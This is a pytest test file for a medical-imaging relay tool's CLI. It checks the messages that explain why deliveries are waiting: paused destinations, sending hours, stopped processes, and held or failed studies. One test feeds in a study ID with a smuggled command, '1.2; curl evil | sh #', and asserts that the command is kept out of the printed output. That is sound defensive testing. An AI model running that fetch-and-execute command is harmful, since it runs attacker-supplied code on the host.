"""What deliveries wait for, by what is known: the nearest cause is named, and nothing that is not known."""

from __future__ import annotations

import time
from dataclasses import replace

import pytest

from relaypacs.cli.waits import Known, holding, of_row
from relaypacs.config import Destination
from relaypacs.jobs.values import QueueRow
from relaypacs.model import State

NOW = time.mktime((2026, 3, 3, 12, 0, 30, 0, 0, -1))  # not at the turn of a minute
PACS = Destination(name="pacs", kind="dimse", host="h", called_ae="PACS")


def hours_from_now(begin: int, end: int) -> str:
    at = [time.strftime("%H:%M", time.localtime(NOW + hours * 3600)) for hours in (begin, end)]
    return "-".join(at)


CLOSED = PACS.model_copy(update={"send_between": hours_from_now(3, 5)})
OPEN = PACS.model_copy(update={"send_between": hours_from_now(-1, 2)})
UP, TRIED, PAUSED = (Known(True, {"pacs": value}) for value in (0.0, 1.0, 2.0))


@pytest.mark.parametrize(
    ("destination", "known", "expected"),
    [
        (PACS, UP, ""),
        (PACS, Known(), ""),
        (PACS, Known(True, {"other": 2.0}), ""),
        (PACS, Known(False), "the node: its relay process is not running"),
        (PACS, PAUSED, "pacs to answer: it is paused after trouble"),
        (PACS, TRIED, "one instance that is tried first"),
        (OPEN, UP, ""),
        (OPEN, PAUSED, "pacs to answer"),
        (CLOSED, PAUSED, f"its hours ({CLOSED.send_between}), which begin in 2 h"),
        (None, UP, "its [[destination]], which is not configured any more"),
    ],
)
def test_what_holds_up_a_destination(destination: Destination | None, known: Known, expected: str) -> None:
    said = holding("pacs", destination, known, NOW)
    assert said.startswith(expected)
    assert bool(said) == bool(expected)


def test_each_state_waits_for_its_own() -> None:
    counts = {State.QUEUED: 3, State.ACTIVE: 1, State.DEFERRED: 2, State.HELD: 1, State.FAILED: 1}
    row = QueueRow("pacs", counts, 60.0, next_attempt_at=NOW + 90, reason="pacs refuses the connection")
    assert of_row(row, PACS, UP, NOW) == {
        State.QUEUED: "their turn: 1 other under way",
        State.DEFERRED: "the next try, in 1 min 30 s at the earliest; the last one ended: pacs refuses the connection",
        State.HELD: "a person: `relaypacs release --to pacs`, or `discard`",
        State.FAILED: "a person: `relaypacs retry --to pacs --state failed`, or `discard`",
    }
    told = of_row(replace(row, failed_reason="no context", failed_study="1.2.3"), PACS, UP, NOW)
    assert told[State.FAILED] == (
        "a person: `relaypacs retry --to pacs --state failed`, or `discard`; the one queued last ended: no context "
        "(`relaypacs trace 1.2.3`)"
    )
    hostile = replace(row, failed_reason="no context", failed_study="1.2; curl evil | sh #")
    assert "evil" not in of_row(hostile, PACS, UP, NOW)[State.FAILED]
    paused = of_row(row, PACS, PAUSED, NOW)
    assert paused[State.QUEUED].startswith("pacs to answer: it is paused")
    assert "pacs to answer" not in paused[State.DEFERRED], "it is said once"
    paced = Known(True, {"pacs": 0.0}, {"pacs": 250.0})
    assert of_row(row, PACS, paced, NOW)[State.QUEUED] == (
        "their turn: 1 other under way, all done in about 4 min 10 s at the present pace"
    )
    alone = QueueRow("pacs", {State.DEFERRED: 1}, 60.0, next_attempt_at=NOW + 90)
    assert "in 1 min 30 s at the earliest, and for pacs to answer" in of_row(alone, PACS, PAUSED, NOW)[State.DEFERRED]
    assert of_row(QueueRow("pacs", {State.ACTIVE: 1}, 1.0), PACS, PAUSED, NOW) == {}
